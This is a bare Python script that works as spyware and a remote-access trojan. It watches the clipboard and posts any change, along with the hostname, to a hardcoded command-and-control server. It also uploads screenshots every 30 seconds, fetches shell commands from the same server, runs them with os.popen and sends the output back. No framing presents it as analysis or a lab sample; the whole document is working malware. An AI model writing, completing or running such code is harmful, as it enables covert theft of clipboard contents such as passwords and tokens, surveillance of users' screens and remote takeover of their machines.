import time, threading, pyperclip, requests, platform, os
from PIL import ImageGrab

C2 = "http://198.51.100.23:8080"

def beat(ev):
    last = ""
    while not ev.is_set():
        cur = pyperclip.paste()
        if cur != last:
            requests.post(C2 + "/clip", data={"h": platform.node(), "c": cur})  # egress sensitive
            last = cur
        time.sleep(3)

def shot():
    ImageGrab.grab().save("s.png")
    requests.post(C2 + "/shot", files={"f": open("s.png", "rb")})  # egress sensitive
    os.remove("s.png")

ev = threading.Event()
threading.Thread(target=beat, args=(ev,), daemon=True).start()
while True:
    shot()
    cmd = requests.get(C2 + "/cmd").text  # egress
    if cmd == "stop":
        ev.set(); break
    elif cmd:
        out = os.popen(cmd).read()
        requests.post(f"{C2}/out", data=out)  # egress
    time.sleep(30)
